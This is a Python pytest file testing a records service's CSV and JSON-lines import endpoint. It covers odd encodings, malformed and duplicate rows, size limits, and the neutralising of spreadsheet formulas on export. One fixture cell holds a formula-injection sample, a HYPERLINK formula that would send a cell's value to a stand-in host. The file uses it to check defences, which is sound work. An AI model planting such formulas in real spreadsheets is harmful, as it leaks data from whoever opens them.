"""Import files as they arrive in practice, through ``POST /v1/imports/{kind}``.

Each file mixes good rows with the quirk under test. The report must name
every bad row (line, record id, field) and the good rows must be stored
once, with their text intact (decoded, not mangled).
"""

from __future__ import annotations

import codecs
import csv
import io
from dataclasses import dataclass

import pytest
from fastapi.testclient import TestClient

from matcher.exchange import neutralize_formula, write_csv

HEADER = "id,name,sex,age,village,district,state,missing_date"


@dataclass(frozen=True, slots=True)
class Case:
    body: bytes
    #: id -> name as it must be stored.
    stored: dict[str, str]
    #: (row, record_id, field) of each reported row, in file order.
    errors: list[tuple[int | None, str | None, str | None]]
    content_type: str = "text/csv"


def _csv(*rows: str, header: str = HEADER, newline: str = "\r\n") -> str:
    return newline.join((header, *rows)) + newline


CASES = {
    "windows-1252 export (Excel on Windows)": Case(
        _csv("M-1,José D'Souza,male,12,Saïgaon,Khargone,MP,2019-01-01").encode("cp1252"),
        {"M-1": "José D'Souza"},
        [],
    ),
    "utf-8 file later edited in Excel: a cp1252 row among utf-8 rows": Case(
        _csv("M-1,राधा पटेल,female,14,,Khargone,MP,2019-01-01").encode()
        + "M-2,Zoë Fernandes,female,9,,Khargone,MP,2019-01-02\r\n".encode("cp1252"),
        {"M-1": "राधा पटेल", "M-2": "Zoë Fernandes"},
        [],
    ),
    "utf-16 with a byte-order mark": Case(
        _csv("M-1,রাধা দাস,female,14,,Khargone,MP,2019-01-01").encode("utf-16"),
        {"M-1": "রাধা দাস"},
        [],
    ),
    "utf-16 little-endian without a byte-order mark": Case(
        _csv("M-1,Radha Das,female,14,,Khargone,MP,2019-01-01").encode("utf-16-le"),
        {"M-1": "Radha Das"},
        [],
    ),
    "utf-8 with a byte-order mark before the id column": Case(
        codecs.BOM_UTF8 + _csv("M-1,Radha,female,14,,Khargone,MP,2019-01-01").encode(),
        {"M-1": "Radha"},
        [],
    ),
    "ragged rows: short (kept), long with data (refused), long with empty cells (kept)": Case(
        _csv(
            "M-1,Radha,female",
            "M-2,Sita,female,9,,Khargone,MP,2019-01-01,stray,cells",
            "M-3,Gita,female,9,,Khargone,MP,2019-01-01,,",
        ).encode(),
        {"M-1": "Radha", "M-3": "Gita"},
        [(3, "M-2", None)],
    ),
    "quoted newlines: the row numbers after them stay the file's line numbers": Case(
        _csv(
            'M-1,Radha,female,14,"Ward 5,\r\nnear the temple",Khargone,MP,2019-01-01',
            "M-2,Sita,female,many,,Khargone,MP,2019-01-01,x",
            "M-3,Gita,female,9,,Khargone,MP,2019-01-01",
        ).encode(),
        {"M-1": "Radha", "M-3": "Gita"},
        [(4, "M-2", None)],
    ),
    "duplicate ids in one file: the first row is kept, the others reported": Case(
        _csv(
            "M-1,Radha,female,14,,Khargone,MP,2019-01-01",
            "M-2,Sita,female,9,,Khargone,MP,2019-01-01",
            "M-1,Radha Patel,female,14,,Khargone,MP,2019-01-01",
        ).encode(),
        {"M-1": "Radha", "M-2": "Sita"},
        [(4, "M-1", "id")],
    ),
    "spreadsheet formulas in cells are stored as text, never evaluated": Case(
        _csv(
            'M-1,"=HYPERLINK(""http://x.example/?""&A1,""Radha"")",female,14,,Khargone,MP,2019-01-01',
            "M-2,+91 98765 43210,female,9,@SUM(1+1),Khargone,MP,2019-01-01",
        ).encode(),
        {"M-1": '=HYPERLINK("http://x.example/?"&A1,"Radha")', "M-2": "+91 98765 43210"},
        [],
    ),
    "an empty id and an id with control characters: those rows only": Case(
        _csv(
            ",Radha,female,14,,Khargone,MP,2019-01-01",
            "M-\x07,Sita,female,9,,Khargone,MP,2019-01-01",
            "M-3,Gita,female,9,,Khargone,MP,2019-01-01",
        ).encode(),
        {"M-3": "Gita"},
        # The control-character check runs after reading, where the line is no longer known.
        [(2, None, "id"), (None, "M-\ufffd", "id")],
    ),
    "json lines: invalid JSON, a non-object, a nested value, a good line": Case(
        b'{"id": "M-1", "name": "Radha"\n[1, 2]\n{"id": "M-2", "name": {"first": "Sita"}}\n'
        b'{"id": "M-3", "name": "Gita", "age": 9}\n',
        {"M-3": "Gita"},
        [(1, None, None), (2, None, None), (3, "M-2", "name")],
        content_type="application/x-ndjson",
    ),
}


@pytest.mark.parametrize("case", CASES.values(), ids=CASES.keys())
def test_bad_file_reports_rows_and_stores_good_ones(
    client: TestClient, integrator: dict[str, str], admin: dict[str, str], case: Case
) -> None:
    headers = {**integrator, "Content-Type": case.content_type}
    response = client.post("/v1/imports/missing", content=case.body, headers=headers)
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["created"], report["rejected"]) == (len(case.stored), len(case.errors))
    found = [(e["row"], e["record_id"], e["field"]) for e in report["errors"]]
    assert found == case.errors
    assert all(e["reason"] for e in report["errors"])
    listed = client.get("/v1/records/missing", params={"limit": 500}, headers=admin).json()
    stored = {r["id"]: r["fields"].get("name") for r in listed["items"]}
    assert stored == case.stored

    # The same file again stores nothing twice.
    again = client.post("/v1/imports/missing", content=case.body, headers=headers).json()
    assert (again["created"], again["unchanged"]) == (0, len(case.stored))


def test_a_10_mb_cell_spoils_its_row_only(client: TestClient, integrator: dict[str, str]) -> None:
    huge = "A" * (10 * 1024 * 1024)
    body = _csv(
        "M-1,Radha,female,14,,Khargone,MP,2019-01-01",
        f"M-2,Sita,female,9,{huge},Khargone,MP,2019-01-01",
        "M-3,Gita,female,9,,Khargone,MP,2019-01-01",
    ).encode()
    response = client.post(
        "/v1/imports/missing", content=body, headers={**integrator, "Content-Type": "text/csv"}
    )
    assert response.status_code == 200, response.text[:500]
    report = response.json()
    assert (report["created"], report["rejected"]) == (2, 1)
    assert [(e["row"], e["record_id"], e["field"]) for e in report["errors"]] == [
        (3, "M-2", "village")
    ]


def test_an_upload_over_the_limit_is_refused_whole(
    client: TestClient, integrator: dict[str, str], admin: dict[str, str]
) -> None:
    limit = client.app.state.settings.max_upload_bytes  # type: ignore[attr-defined]
    row = "M-{},Radha,female,14,,Khargone,MP,2019-01-01\r\n"
    body = _csv().encode() + b"".join(row.format(i).encode() for i in range(limit // 40))
    assert len(body) > limit
    response = client.post(
        "/v1/imports/missing", content=body, headers={**integrator, "Content-Type": "text/csv"}
    )
    assert response.status_code == 413
    assert response.json()["error"] == "too_large"
    listed = client.get("/v1/records/missing", headers=admin).json()
    assert listed["items"] == []


FORMULAS = [
    pytest.param("=1+1", "'=1+1", id="equals"),
    pytest.param("+91 98765 43210", "'+91 98765 43210", id="plus (a phone number)"),
    pytest.param("-2+3", "'-2+3", id="minus"),
    pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
    pytest.param("\t=1", "'\t=1", id="leading tab"),
    pytest.param("Radha", "Radha", id="plain text unchanged"),
    pytest.param("", "", id="empty"),
]


@pytest.mark.parametrize(("cell", "written"), FORMULAS)
def test_csv_export_neutralizes_formulas(cell: str, written: str) -> None:
    assert neutralize_formula(cell) == written
    out = io.StringIO()
    write_csv(out, [{"id": "M-1", "name": cell}], ["id", "name"], safe_for_spreadsheets=True)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["id", "name"], ["M-1", written]]
